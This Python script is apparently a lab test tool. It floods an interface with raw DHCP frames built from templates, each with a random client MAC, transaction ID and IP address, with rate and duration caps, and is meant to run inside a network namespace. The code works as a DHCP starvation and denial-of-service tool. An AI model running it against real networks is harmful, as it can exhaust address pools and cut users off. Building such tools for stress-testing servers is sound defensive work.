#!/usr/bin/env python3
"""Hostile DHCP load, run *inside* a lab network namespace.

    ip netns exec NS python dhcp_flood.py --iface IF --rate 2000 --seconds 10 < spec.json

spec.json: {"templates": [{"hex": "<Ethernet frame>", "mac": [off...], "xid": off,
             "ip": off | null, "ip_base": int, "ip_span": int}, ...]}
Frames are sent round-robin over the templates at `rate` per second for
`seconds` (both bounded), each with a fresh chaddr (and Ethernet source),
xid and, where the template has one, an address in [ip_base, ip_base+span)
patched in (UDP checksum 0: none, RFC 768).  Prints {"sent": n, "seconds": t}.
Stdlib only; nothing here leaves the namespace it runs in.
"""
from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time

MAX_RATE = 20000
MAX_SECONDS = 60


def main() -> int:
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", required=True)
    ap.add_argument("--rate", type=int, required=True)
    ap.add_argument("--seconds", type=float, required=True)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    rate = max(1, min(a.rate, MAX_RATE))
    seconds = max(0.1, min(a.seconds, MAX_SECONDS))
    spec = json.load(sys.stdin)
    tpls = [(bytearray.fromhex(t["hex"]), t["mac"], t["xid"], t.get("ip"), t.get("ip_base", 0),
             t.get("ip_span", 1)) for t in spec["templates"]]
    rnd = random.Random(a.seed)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    total = int(rate * seconds)
    start = time.monotonic()
    sent = 0
    while sent < total:
        due = start + sent / rate
        now = time.monotonic()
        if due > now:
            time.sleep(due - now)
        elif now - start > seconds * 2:      # cannot keep up: stop, bounded in time
            break
        frame, macs, xid, ip, base, span = tpls[sent % len(tpls)]
        mac = bytes([0x02]) + rnd.getrandbits(40).to_bytes(5, "big")
        for off in macs:
            frame[off:off + 6] = mac
        frame[xid:xid + 4] = rnd.getrandbits(32).to_bytes(4, "big")
        if ip is not None:
            frame[ip:ip + 4] = (base + rnd.randrange(span)).to_bytes(4, "big")
        try:
            s.send(frame)
        except BlockingIOError:
            pass
        sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - start, 3)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
